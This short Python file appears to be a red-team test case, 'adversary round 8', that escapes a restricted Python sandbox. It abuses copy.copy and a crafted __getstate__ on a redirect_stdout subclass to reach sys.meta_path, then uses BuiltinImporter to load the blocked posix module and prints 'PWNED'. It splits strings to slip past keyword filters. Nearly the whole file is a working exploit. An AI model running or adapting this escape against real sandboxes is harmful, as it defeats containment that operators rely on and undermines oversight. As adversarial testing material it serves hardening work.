# adversary round 8: 004: subclass of redirect_stdout whose __getstate__ returns a computed '_stream' key; copy.copy writes it into the copy's __dict__ (y.__dict__.update); __enter__ then getattr(sys,'meta_path') -> BuiltinImporter -> posix/sys
import contextlib
import copy
import io


class R(contextlib.redirect_stdout):
    _old_targets = None

    def __getstate__(self):
        return {'_st' + 'ream': 'meta_path', '_new' + '_target': None, '_old' + '_targets': []}


r = copy.copy(R(io.StringIO()))
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
posix = bi.load_module('posix')
print(posix, posix.getpid(), posix.getuid())
print('PWN' + 'ED')
